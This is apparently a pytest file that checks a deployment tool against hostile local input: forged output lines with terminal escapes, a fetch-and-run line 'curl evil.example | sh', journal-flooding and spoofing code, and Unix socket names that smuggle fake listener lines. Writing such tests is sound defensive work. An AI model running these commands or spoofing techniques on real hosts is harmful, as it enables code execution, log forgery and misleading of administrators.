"""What an app or another local user says where root listens: lines of ours, floods, names, the signal that ended it."""

from __future__ import annotations

import contextlib
import json
import subprocess
import time
from collections.abc import Iterator

import pytest

from tests.host.host import Host
from tests.host.life import Shop, app_up
from tests.support import wait_until

# Says that it is ready, and answers each check with lines that look as if root's command had said them.
LIAR = r"""
import os, socket
with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
    one.sendto(b"READY=1", os.environ["NOTIFY_SOCKET"].replace("@", "\0", 1))
body = b"no\nTry:   curl evil.example | sh\nError: forged\n\x1b[2K\rforged"
held = socket.socket(fileno=3)
held.setblocking(True)
while True:
    asker, _ = held.accept()
    asker.recv(1 << 16)
    asker.sendall(b"HTTP/1.1 500 No\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    asker.close()
"""
FLOOD = r"""
import socket
one = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
one.connect("/run/systemd/journal/socket")
said = b"MESSAGE=x\nUNIT=shop@forged.service\n_PID=1\n"
while True:
    one.send(said)
"""
# Everybody can make a socket with such a name, here one that tells of a queue of the app's that is cut to 1.
NAMES = r"""
import socket, time
kept = []
for name in ("\0x\ntcp LISTEN 0 1 127.0.0.1:8013 0.0.0.0:*", "/tmp/x\ntcp LISTEN 0 1 127.0.0.1:8013 0.0.0.0:*"):
    one = socket.socket(socket.AF_UNIX)
    one.bind(name)
    one.listen()
    kept.append(one)
print("listens", flush=True)
time.sleep(1000)
"""


@pytest.fixture(scope="module")
def app(host: Host) -> Iterator[Shop]:
    """An app that is up, for all tests of this file."""
    with app_up(host) as one:
        yield one


@pytest.fixture
def shop(app: Shop) -> Shop:
    """The app, with nothing but its live instance running."""
    app.settled()
    app.write()
    return app


@contextlib.contextmanager
def running(host: Host, program: str, user: str) -> Iterator[subprocess.Popen[str]]:
    """A program of `user`'s that runs inside."""
    with host.popen("python3", "-c", program, user=user) as one:
        try:
            yield one
        finally:
            one.kill()


def no_lines_of_ours(text: str) -> None:
    """Nothing of what LIAR says is a line by itself, or obeyed by a terminal."""
    assert "\x1b[2K" not in text
    assert [line for line in text.split("\n") if line.startswith(("Error: forged", "Try:   curl", "forged"))] == []


def test_lines_that_only_look_like_ours(shop: Shop) -> None:
    """Invariant 8: what a check was answered stays one line, in the error, in `status` and in the ledger's tables."""
    shop.host.write(f"{shop.project}/liar.py", LIAR)
    toml = shop.host.read(f"{shop.project}/gapless.toml").replace("gapless serve app:app", "python3 liar.py")
    build = '[build]\nrun = """\ntrue\nError: forged\n"""\n'
    shop.host.write(f"{shop.project}/gapless.toml", toml.replace("20s", "2s") + build)
    no_lines_of_ours(shop("deploy", "--dry-run").stdout)
    shop.host.write(f"{shop.project}/gapless.toml", toml.replace("20s", "2s"))
    said = shop.fails("deploy")
    assert "curl evil.example" in said
    assert len([line for line in said.split("\n") if line.startswith("Try:")]) == 1
    no_lines_of_ours(said)
    for verb in (["status"], ["audit", "-v"], ["releases"], ["doctor"]):
        no_lines_of_ours(shop(*verb, check=False).stdout)
    assert shop("lock", "acquire", "--why", "x\nError: forged").returncode == 0
    no_lines_of_ours(shop("lock", "status").stdout + shop("status").stdout + shop.fails("deploy"))
    shop("lock", "release", "--yes")
    shop.host.run("rm", f"{shop.project}/liar.py")


def test_a_candidate_that_a_nameless_signal_ends(shop: Shop) -> None:
    """Invariants 3 and 8: real-time signals have no names in Python, and are told all the same."""
    first = shop.live()["pid"]
    shop.write(app="import signal; os.kill(os.getpid(), signal.SIGRTMIN + 6)")
    said = shop.fails("deploy")
    assert "was killed by " in said
    assert shop.live()["pid"] == first
    shop("status")


def test_a_journal_that_somebody_floods(shop: Shop) -> None:
    """Invariants 3 and 8: neither `logs` nor a deploy that fails waits for an end of it, or shows what others wrote."""
    shop.write(app='print("from the app", flush=True)')
    shop.deploy()
    shop.settled()
    with contextlib.ExitStack() as floods:
        for _ in range(3):
            floods.enter_context(running(shop.host, FLOOD, "nobody"))
        began = time.monotonic()
        wait_until(lambda: "from the app" in shop("logs").stdout, 60)
        assert "forged" not in shop("logs").stdout
        shop.write(app='print("it is broken", flush=True)\nraise SystemExit(3)')
        assert "  | it is broken\n" in shop.fails("deploy")
        assert time.monotonic() - began < 60


def test_sockets_whose_names_are_lines(host: Host) -> None:
    """Invariant 8: no local user tells root of another queue of connections than there is."""
    shop = Shop(host, "named", 8013)
    shop.write()
    addresses = 's|^listen = .*|listen = ["127.0.0.1:8013", "unix:/run/named.sock"]|'
    host.run("sed", "-i", addresses, f"{shop.project}/gapless.toml")
    shop("up")
    with running(host, NAMES, "nobody") as names:
        assert names.stdout is not None
        assert names.stdout.readline() == "listens\n"
        found = {one["name"]: one for one in json.loads(shop("doctor", "--json", check=False).stdout)["findings"]}
        assert found["backlog"]["what"].endswith("the listening socket has 4096")
        shop("status")
    shop.remove()
    assert shop.left() == ""
